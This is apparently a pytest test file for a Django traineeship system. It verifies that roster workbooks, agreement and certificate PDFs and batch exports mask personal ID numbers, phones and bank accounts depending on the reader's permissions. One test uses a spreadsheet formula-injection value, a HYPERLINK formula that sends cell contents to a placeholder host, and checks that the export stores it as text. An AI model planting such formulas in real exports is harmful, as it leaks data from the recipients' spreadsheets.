"""Exports and PDFs show ID numbers, mobiles and bank accounts whole only to readers holding
organisations.view_personal_data (or the person / organisation the document is about), and a trainee's name that
looks like a formula stays text in the roster workbook."""

import datetime
import io

import pytest
from django.urls import reverse
from python_calamine import CalamineWorkbook

from tests.batch.helpers import sheet_xml
from tests.printing.pdftools import pdf_text
from tests.traineeships.test_placements import on_post_placement
from tests.traineeships.test_register import member_with
from traineeships.models import Departure, MonthlyReport

pytest_plugins = ["tests.traineeships.test_placements"]

FORMULA_NAME = '=HYPERLINK("http://x"&C5,"张三")'
ROSTER = reverse("traineeships:roster")
PERIOD = {"first_month": "2026-01", "last_month": "2026-12"}


def masked(id_number: str) -> str:
    return id_number[:4] + "*" * 10 + id_number[-4:]


@pytest.fixture
def placement(application, admin_a, county_reviewer_a, wage):
    placement = on_post_placement(application, admin_a, county_reviewer_a)
    MonthlyReport.objects.create(placement=placement, month=datetime.date(2026, 4, 1), on_post=False,
                                 reported_by=admin_a, reported_at=placement.created_at)
    return placement


def roster_rows(content: bytes):
    return CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()


@pytest.mark.django_db
def test_roster_writes_a_formula_name_as_text(client, admin_a, placement):
    person = placement.person
    person.real_name = FORMULA_NAME
    person.save(update_fields=["real_name"])
    client.force_login(admin_a)
    content = client.get(ROSTER, {**PERIOD, "format": "xlsx"}).content
    assert roster_rows(content)[4][1] == FORMULA_NAME
    xml = sheet_xml(content)
    assert "<f>" not in xml and "<f " not in xml


@pytest.mark.django_db
def test_roster_files_mask_the_id_number_without_the_permission(client, admin_a, enterprise_a, county_hr_a,
                                                              county_reviewer_a, placement, tmp_path):
    full = placement.person.id_number
    client.force_login(admin_a)  # the organisation's administrator holds view_personal_data
    assert roster_rows(client.get(ROSTER, {**PERIOD, "format": "xlsx"}).content)[4][2] == full
    assert full in pdf_text(client.get(ROSTER, {**PERIOD, "format": "pdf"}).content, tmp_path)

    unit_member = member_with(enterprise_a, "basekeeper", "traineeships.manage_base")
    client.force_login(unit_member)
    assert roster_rows(client.get(ROSTER, {**PERIOD, "format": "xlsx"}).content)[4][2] == masked(full)
    text = pdf_text(client.get(ROSTER, {**PERIOD, "format": "pdf"}).content, tmp_path)
    assert masked(full) in text and full not in text

    reviewer = member_with(county_hr_a, "decider", "traineeships.review")
    client.force_login(reviewer)
    query = {**PERIOD, "base": placement.base_id}
    assert roster_rows(client.get(ROSTER, {**query, "format": "xlsx"}).content)[4][2] == masked(full)
    text = pdf_text(client.get(ROSTER, {**query, "format": "pdf"}).content, tmp_path)
    assert masked(full) in text and full not in text
    client.force_login(county_reviewer_a)
    assert roster_rows(client.get(ROSTER, {**query, "format": "xlsx"}).content)[4][2] == full


@pytest.mark.django_db
def test_agreement_and_certificate_pdfs_mask_by_reader(client, admin_a, county_hr_a, placement, tmp_path):
    full = placement.person.id_number
    client.force_login(admin_a)
    client.post(reverse("traineeships:departure_create", args=[placement.pk]),
                {"left_on": "2026-06-15", "reason": "hired_early", "note": ""})
    departure = Departure.objects.get()
    urls = [reverse("traineeships:agreement_pdf", args=[placement.pk])]
    urls.append(reverse("traineeships:certificate_pdf", args=[departure.pk]))
    reviewer = member_with(county_hr_a, "decider", "traineeships.review")
    for reader, whole in ((admin_a, True), (placement.person, True), (reviewer, False)):
        client.force_login(reader)
        for url in urls:
            text = pdf_text(client.get(url).content, tmp_path)
            assert (full in text) is whole, (reader, url)
            assert (masked(full) in text) is not whole, (reader, url)


@pytest.mark.django_db
def test_base_application_pdf_masks_phone_and_bank_account_for_others(client, admin_a, county_hr_a, base_a,
                                                                       tmp_path):
    url = reverse("traineeships:base_pdf", args=[base_a.pk])
    account, phone = base_a.bank_account_number, base_a.organisation.contact_phone
    assert account and phone
    client.force_login(admin_a)
    text = pdf_text(client.get(url).content, tmp_path)
    assert account in text and phone in text
    client.force_login(member_with(county_hr_a, "decider", "traineeships.review"))
    text = pdf_text(client.get(url).content, tmp_path)
    assert account not in text and "*" * (len(account) - 4) + account[-4:] in text
    assert phone not in text


@pytest.mark.django_db
def test_placement_export_masks_by_the_reader_at_run_time(client, admin_a, enterprise_a, placement,
                                                         django_capture_on_commit_callbacks):
    from batch.models import BatchJob, JobStatus
    from tests.batch.helpers import read_rows, response_bytes

    def exported(user):
        client.force_login(user)
        with django_capture_on_commit_callbacks(execute=True):
            client.post(reverse("batch:export", args=["traineeship_placements"]))
        job = BatchJob.objects.filter(owner=user).latest("id")
        assert job.status == JobStatus.SUCCEEDED, job.error
        return read_rows(response_bytes(client.get(reverse("batch:download_result", args=[job.pk]))))[1][:3]

    person = placement.person
    assert exported(admin_a) == [person.real_name, person.id_number, person.mobile]
    member = member_with(enterprise_a, "basekeeper", "traineeships.manage_base")
    assert exported(member) == [person.real_name, masked(person.id_number),
                                f"{person.mobile[:3]}****{person.mobile[-4:]}"]


@pytest.mark.django_db
def test_an_export_masks_by_the_permission_held_when_the_job_runs(client, enterprise_a, placement,
                                                                  django_capture_on_commit_callbacks):
    """The job re-reads its owner's permissions: view_personal_data withdrawn after the click means masked."""
    from batch.models import BatchJob, JobStatus
    from organisations.models import Role
    from tests.batch.helpers import read_rows, response_bytes

    member = member_with(enterprise_a, "basekeeper", "traineeships.manage_base", "organisations.view_personal_data")
    client.force_login(member)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        client.post(reverse("batch:export", args=["traineeship_placements"]))
    Role.objects.filter(organisation=enterprise_a, name="角色basekeeper").update(
        permissions=["traineeships.manage_base"])
    for callback in callbacks:
        callback()
    job = BatchJob.objects.get(owner=member)
    assert job.status == JobStatus.SUCCEEDED, job.error
    row = read_rows(response_bytes(client.get(reverse("batch:download_result", args=[job.pk]))))[1]
    assert row[1] == masked(placement.person.id_number)
